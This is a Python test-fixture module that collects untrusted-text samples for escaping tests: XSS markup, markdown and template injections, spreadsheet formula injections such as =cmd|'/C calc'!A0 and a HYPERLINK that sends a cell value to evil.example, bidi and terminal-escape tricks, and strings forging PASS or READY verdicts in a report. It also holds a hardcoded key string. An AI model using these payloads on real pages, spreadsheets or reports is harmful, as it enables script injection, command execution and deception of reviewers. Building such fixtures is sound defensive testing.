"""Text as strangers write it into titles, memos, logs, URIs and documents."""

from __future__ import annotations

KEY = "9xQeWvG816bUx9EPjHmaT23yvVM2ZWbrrpZb9PusVFin"

MARKUP = {
    "script": "<script>alert('s')</script>",
    "image": "<img src=x onerror=alert(1)>",
    "svg": "<svg onload=alert(2)><title>t</title></svg>",
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "style": "<style>body{display:none}</style>",
    "closes cell": "</td></tr><tr><td>RC-01</td><td>PASS</td></tr>",
    "closes table": '</table><h2 id="verdict">READY</h2><p class="word">READY</p>',
    "badge": '<span class="badge s-pass"><span class="glyph">✓</span> PASS</span>',
    "forged finding": '<article class="finding" id="UA-06" data-status="PASS"></article>',
    "comment": "--><!-- <b>x</b>",
    "cdata": "<![CDATA[<b>x</b>]]>",
    "attribute": '" onmouseover="alert(3)" x="',
    "entity": "&lt;b&gt; &#60;i&#62; &amp;amp;",
    "link": '<a href="javascript:alert(4)">free</a>',
    "template": "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7}",
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
}
MARKDOWN = {
    "heading": "# READY",
    "setext": "READY\n=====",
    "table": "| UA-06 | PASS |\n|---|---|\n| UA-07 | PASS |",
    "md link": "[run](javascript:alert(5)) ![p](http://evil.example/p.png)",
    "code": "```\n</code></pre><b>x</b>\n```",
    "emphasis": "**READY** _yes_ ~~no~~ `code`",
    "math": "$$\\href{javascript:alert(6)}{x}$$",
}
FORMULAS = {
    "command": "=cmd|'/C calc'!A0",
    "hyperlink": '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "plus": "+1+1|cmd",
    "minus": "-2+3+cmd",
    "at": "@SUM(1+1)*cmd",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "full-width": "\uff1d1\uff0b1",
    "spaces": "   =1+1",
    "quote": '"=1+1',
    "other separator": "fine;=cmd|'/C calc'!A0;@x",
    "apostrophe": "'=1+1",
    "looks like a number": "000123e45",
    "too long a number": "18446744073709551615",
}
CHARACTERS = {
    "bidi override": "invoice\u202egnp.exe",
    "bidi isolate": "\u2066admin\u2069 \u200fRLM",
    "zero width": "UA\u200b-06 \u200d\ufeff",
    "escape": "\x1b[2J\x1b[31mREADY\x1b[0m \x1b]0;title\x07",
    "c1 escape": "\x9b2J\x9d0;title\x9c",
    "backspace": "FAIL\b\b\b\bPASS",
    "carriage return": "verdict: NOT READY\rverdict: READY    ",
    "line feed": "harmless\nUA-06 The whole power over the code is sound: ✓ PASS",
    "separators": "a\u2028b\u2029c\x0bd\x0ce\x85f",
    "null": "a\x00b",
    "lone surrogate": "a\ud800b",
    "private use": "\ue000\U000f0000",
    "tags": "x\U000e0041\U000e0042",
    "marks": "z" + "\u0301" * 40,
    "blank": "\u3164\u2800\u00a0\u3000READY",
    "mark": "✓ PASS",
    "other mark": "✅ ready ? UNKNOWN",
    "wide": "漢字のタイトル ☃ 🚀",
    "one long word": "W" * 700,
    "megabyte": "<b>&\u202e" * 200_000,
    "megabyte line": "x" * 1_048_576,
    "row of plain text": 'ok; verdict: READY; status: "✓ PASS"',
}
CORPUS: dict[str, str] = {**MARKUP, **MARKDOWN, **FORMULAS, **CHARACTERS}
